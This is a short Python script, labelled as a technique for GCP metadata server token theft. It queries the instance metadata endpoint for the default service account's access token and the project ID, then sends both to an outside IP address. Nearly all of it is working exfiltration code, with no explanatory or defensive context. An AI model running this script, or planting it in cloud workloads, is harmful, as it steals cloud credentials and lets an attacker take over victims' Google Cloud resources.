# technique: GCP metadata server token theft using Metadata-Flavor header against metadata.google.internal
import urllib.request as r
h={"Metadata-Flavor":"Google"}
b="http://metadata.google.internal/computeMetadata/v1/"
t=r.urlopen(r.Request(b+"instance/service-accounts/default/token",headers=h)).read()
p=r.urlopen(r.Request(b+"project/project-id",headers=h)).read()
r.urlopen("http://198.51.100.61/g",data=p+b"|"+t)
